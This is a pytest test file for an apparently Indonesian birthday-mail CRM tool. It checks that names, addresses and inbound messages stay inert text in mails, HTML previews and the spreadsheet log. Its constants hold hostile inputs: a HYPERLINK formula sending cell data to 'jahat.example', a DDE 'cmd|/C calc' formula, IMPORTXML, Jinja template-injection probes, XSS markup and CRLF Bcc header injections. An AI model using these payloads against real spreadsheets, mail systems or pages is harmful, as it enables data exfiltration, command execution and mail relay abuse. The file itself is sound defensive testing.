"""Text is data (law 8): what people type and what strangers send does nothing, in the sheet, in mails and on pages."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from live_team import Commands, LiveTeam, born_today, program, rows_of, settings_tab
from mail_samples import mail

FORMULAS = {
    "link": '=HYPERLINK("http://jahat.example/?"&A1, "Klik")',
    "plus": "+1+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "sheets": '=IMPORTXML("http://jahat.example", "//a")',
}
TEMPLATES = (
    "{{ settings.company }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9**9) %}x{% endfor %}",
    "{# x #}",
)
MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><iframe src=//jahat.example>')
LINES = ("Sari\r\nBcc: mata@jahat.example", "Sari\nBcc: mata@jahat.example\n\nHalo", "Sari\r Bcc: mata@jahat.example")
PAYLOADS = (*FORMULAS.values(), *TEMPLATES, *MARKUP, *LINES)


@pytest.fixture
def crm(team: LiveTeam, capsys: pytest.CaptureFixture[str]) -> Commands:
    return Commands(team, capsys)


@pytest.fixture
def greeted(team: LiveTeam, crm: Commands) -> LiveTeam:
    """Customers with such names got a mail that has the name in its headers, its text and its HTML."""
    people = [born_today(number, name=name) for number, name in enumerate(PAYLOADS, 1)]
    team.make(people, program("Email"))
    template = team.folder / "templates" / "ultah.email.id.txt"
    text = template.read_text(encoding="utf-8").replace("Subject: Selamat", "Subject: Selamat {{ customer.name }}")
    template.write_text(text, encoding="utf-8")
    assert crm("run nightly")[1]["sent"] == len(PAYLOADS)
    return team


def is_inert(book: Path) -> bool:
    """No cell is a formula, in any tab."""
    with ZipFile(book) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert sheets
    return not any(re.search(rb"<f[ >/]", sheet) for sheet in sheets)


class Tags(HTMLParser):
    """The tags and attributes of a page as a browser sees them, with those of the pages in its frames."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.targets: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen |= {tag, *(name for name, _ in attrs if name.startswith("on"))}
        for name, value in attrs:
            if name in ("src", "href", "action"):
                self.targets.add(value or "")
            if name == "srcdoc":
                inner = Tags(value or "")
                self.seen |= inner.seen
                self.targets |= inner.targets


class TestNames:
    def test_each_mail_goes_to_its_recipient_alone(self, greeted: LiveTeam) -> None:
        mails = greeted.mails()
        assert sorted(taken.recipients for taken in mails) == sorted(
            (f"p{number}@example.com",) for number in range(1, len(PAYLOADS) + 1)
        )
        for taken in mails:
            assert not {"Bcc", "Cc"} & set(taken.mail)
            assert taken.mail["To"].addresses[0].addr_spec == taken.recipients[0]
            assert len(taken.mail.get_all("Subject")) == len(taken.mail.get_all("To")) == 1

    def test_they_stand_in_the_text_as_they_are(self, greeted: LiveTeam) -> None:
        texts = [" ".join(taken.mail.get_body(("plain",)).get_content().split()) for taken in greeted.mails()]
        for name in PAYLOADS:
            assert any(" ".join(name.split()) in text for text in texts), name

    def test_in_html_they_are_no_markup(self, greeted: LiveTeam) -> None:
        for taken in greeted.mails():
            page = Tags(taken.mail.get_body(("html",)).get_content())
            assert not page.seen & {"script", "img", "iframe", "onerror"}
            assert not any("jahat" in target for target in page.targets)

    def test_on_the_preview_page_they_are_no_markup(self, team: LiveTeam, crm: Commands) -> None:
        people = [born_today(number, name=name, id=f"P{number}{name}") for number, name in enumerate(PAYLOADS, 1)]
        team.make(people, program("Email, SMS"))
        _, shown = crm("preview")
        assert shown["messages"] == len(PAYLOADS)
        page = Tags((team.folder / "preview.html").read_text(encoding="utf-8"))
        assert not page.seen & {"script", "img", "onerror"}
        assert not any("jahat" in target for target in page.targets)

    def test_in_the_sheet_they_are_no_formulas(self, greeted: LiveTeam) -> None:
        assert is_inert(greeted.book)
        shown = {row["Pelanggan"] for row in rows_of(greeted.book, "Log kontak")}
        assert FORMULAS["link"] in shown


class TestAddresses:
    @pytest.mark.parametrize(
        "address",
        [
            "p1@example.com\r\nBcc: mata@jahat.example",
            "p1@example.com, mata@jahat.example",
            "p1@example.com;mata@jahat.example",
            "<p1@example.com> mata@jahat.example",
            "p1@example.com> RCPT TO:<mata@jahat.example",
            "=p1@example.com,mata@jahat.example",
        ],
    )
    def test_a_cell_with_more_than_one_makes_one_recipient_and_a_warning(
        self, team: LiveTeam, crm: Commands, address: str
    ) -> None:
        team.make([born_today(1, email=address)], program("Email"))
        crm("run nightly")
        assert [row["Di mana"] for row in rows_of(team.book, "Masalah")] == ["Pelanggan!F2"]
        for taken in team.mails():
            assert len(taken.recipients) == len(taken.mail["To"].addresses) == 1
            assert not {"Bcc", "Cc"} & set(taken.mail)


class TestWhatComesIn:
    def test_formulas_of_strangers_are_texts(self, team: LiveTeam, crm: Commands) -> None:
        team.make([born_today(1)], program("Email"), Pengaturan=settings_tab(acknowledge="ya"))
        for number, text in enumerate(PAYLOADS):
            sender, name = f"=a{number}@example.org", text.replace("\\", "").replace('"', "'")
            plain = " ".join(name.split())
            team.mailbox.deliver(mail(text, sender, plain, {"From": f'"{plain}" <{sender}>'}))
        team.twilio.receive("+628120000077", FORMULAS["link"], "whatsapp")
        code, summary = crm("run inbox")
        assert (code, summary["received"]) == (0, len(PAYLOADS) + 1)
        assert is_inert(team.book)
        lines = rows_of(team.book, "Pesan masuk")
        for formula in FORMULAS.values():
            assert any(formula.strip() in str(line["Isi pesan"]) for line in lines), formula
        for taken in team.mails():
            assert len(taken.recipients) == 1
            assert "jahat" not in str(taken.mail), "nothing of what they wrote"

    def test_the_sheet_opens(self, team: LiveTeam, crm: Commands) -> None:
        team.make([born_today(1)], program("Email"))
        signs = "".join(map(chr, [*range(32), 0x7F, 0x85, 0x200B, 0x202E, 0xFEFF, 0xFFFE, 0x1F600]))
        team.mailbox.deliver(mail(f"a{signs}b _x000D_ &lt; ]]> </t>", "a@example.org", "Halo _x0041_"))
        assert crm("run inbox")[1]["received"] == 1
        (line,) = rows_of(team.book, "Pesan masuk")
        assert "_x000D_ &lt; ]]> </t>" in line["Isi pesan"]
        assert openpyxl.load_workbook(team.book).sheetnames
